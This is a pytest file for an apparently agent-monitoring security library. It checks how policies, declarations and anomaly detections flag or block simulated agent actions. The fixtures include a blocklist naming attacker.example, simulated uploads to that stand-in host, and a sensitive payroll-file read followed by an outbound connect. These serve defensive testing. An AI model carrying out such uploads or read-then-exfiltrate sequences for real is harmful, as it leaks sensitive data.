"""From findings to a verdict: order, modes, statuses, reasons."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from kaizen_security.contract.action import Action
from kaizen_security.contract.declaration import Declaration
from kaizen_security.contract.finding import Finding
from kaizen_security.contract.policy import Policy
from kaizen_security.contract.verdict import Decision, Mode
from kaizen_security.detections import BUILTIN
from kaizen_security.observer.detection import About, Status
from kaizen_security.testing.playbook import Playbook, allow, block, call, connect, flag, read

DECLARED = Declaration(tools=("search",), destinations=("api.example",))
NO_ATTACKER = Policy("blocklist", {"domains": ["attacker.example"]}, "list")


def test_the_playbook_of_the_house_works():
    Playbook(agent="a", declares=DECLARED) >> connect("attacker.example:443") << block("undeclared-destination")


@pytest.mark.parametrize("mode", Mode)
def test_a_policy_blocks_in_both_modes_and_its_reason_stands_alone(mode):
    book = Playbook(declares=DECLARED, policies=[NO_ATTACKER], mode=mode)
    book >> call("upload", "https://attacker.example/x") << block("malicious-domain", "undeclared-tool")
    assert book.verdict.reason == "blocked by policy: malicious domain"
    assert [one.detection for one in book.verdict.evidence[:3]] == ["policy", "declaration", "declaration"]


def test_an_undeclared_tool_is_flagged_in_observe_and_blocked_in_enforce():
    Playbook(declares=DECLARED, mode=Mode.OBSERVE) >> call("upload") << flag("undeclared-tool")
    Playbook(declares=DECLARED, mode=Mode.ENFORCE) >> call("upload") << block("undeclared-tool")


def test_novelty_flags_and_never_blocks():
    book = Playbook(mode=Mode.ENFORCE).used_to([call("search")], times=120)
    book >> call("upload") << flag("new-tool")
    assert book.verdict.reason == "behavioral anomaly: this agent did a tool it has never used (upload)."


def test_a_flag_on_tool_and_destination_names_both_tool_first():
    book = Playbook(declares=DECLARED, mode=Mode.OBSERVE) >> call("upload", "https://attacker.example:8443/x")
    assert book.verdict.reason == (
        "undeclared: this agent used a tool it never declared (upload), "
        "connected to a destination it never declared (attacker.example)."
    )


def test_a_flag_on_one_of_both_names_the_other_for_what_it_is():
    book = Playbook(declares=DECLARED, mode=Mode.OBSERVE) >> call("search", "https://attacker.example:8443/x")
    assert book.verdict.reason == (
        "undeclared: this agent connected to a destination it never declared (attacker.example). Tool: search."
    )
    book >> call("upload", "https://api.example/")
    assert book.verdict.reason == (
        "undeclared: this agent used a tool it never declared (upload). Destination: api.example."
    )


def test_several_reasons_stand_in_order():
    book = Playbook(declares=Declaration(tools=("search",)), mode=Mode.OBSERVE)
    book.used_to([call("search", "https://api.example/")], times=120)
    book >> call("upload", "https://attacker.example/") << flag("undeclared-tool", "new-tool", "new-destination")
    assert book.verdict.reason == (
        "undeclared: this agent used a tool it never declared (upload). behavioral anomaly: this agent did a tool it has "
        "never used (upload), a destination it has never connected to (attacker.example)."
    )


def test_the_correlation_has_its_own_reason():
    policy = Policy("correlation", {"risky_sequence": "read_then_connect"}, "no secrets out")
    book = Playbook(policies=[policy], mode=Mode.OBSERVE)
    book >> read("/srv/payroll.csv", sensitive=True, run="r") << allow()
    book >> connect("api.example:443") << allow()
    book >> call("x", run="r") >> Action(kind="connect", target="api.example:443", run_id="r")
    book << block("correlation")
    assert book.verdict.reason == "blocked by correlation: sensitive read then outbound connect"
    assert book.verdict.evidence[0].source == "policy:no secrets out"


def test_a_paused_agent_is_recorded_and_not_flagged_but_its_policy_holds():
    book = Playbook(declares=DECLARED, policies=[NO_ATTACKER], paused=True)
    book >> call("upload") << allow()
    assert "paused: recorded, not flagged (1 findings)" in book.verdict.notes
    book >> connect("attacker.example:443") << block("malicious-domain")


def test_what_a_paused_agent_would_have_been_flagged_for_is_not_learned():
    book = Playbook(declares=DECLARED, paused=True, reported=True)
    book >> call("upload") << allow()
    assert book.inspector.profile("agent")["learned"]["tool"] == []


def detection(status, name="odd"):
    finding = Finding(kind="odd", value="x", source="s", detection=name, field="tool")
    return SimpleNamespace(
        ABOUT=About(name=name, title="", says="", status=status), detect=lambda action, context: (finding,)
    )


def test_a_candidate_is_counted_and_nothing_else():
    book = Playbook(detections=[*BUILTIN, detection(Status.CANDIDATE)], reported=True)
    book >> call("search") << allow()
    assert book.inspector.profile("agent")["candidates"] == {"odd": 1}
    assert book.inspector.profile("agent")["seen"] == 1


def test_an_incubating_detection_flags_and_does_not_block_even_where_the_table_says_so():
    book = Playbook(detections=[detection(Status.INCUBATING, "declaration")])
    book >> call("search") << flag("odd")
    Playbook(detections=[detection(Status.STABLE, "declaration")]) >> call("search") << block("odd")


def test_a_stable_detection_without_a_row_in_the_table_flags():
    book = Playbook(detections=[*BUILTIN, detection(Status.STABLE)]) >> call("search") << flag("odd")
    assert book.verdict.reason == "odd: odd (x)."


def test_before_the_first_bundle_the_configured_mode_holds_and_is_said():
    from kaizen_security.runtime.agents import Agents
    from kaizen_security.runtime.inspector import Inspector

    observing = Inspector(Agents(before=Mode.OBSERVE)).inspect(Action(tool="search"))
    enforcing = Inspector(Agents(before=Mode.ENFORCE)).inspect(Action(tool="search"))
    note = "no policy received yet: judged without policy and declaration"
    assert (observing.decision, observing.policy_version) == (Decision.ALLOW, "")
    assert note in observing.notes
    assert (enforcing.decision, enforcing.reason) == (Decision.BLOCK, "engine error, failed closed")
    assert note in enforcing.notes
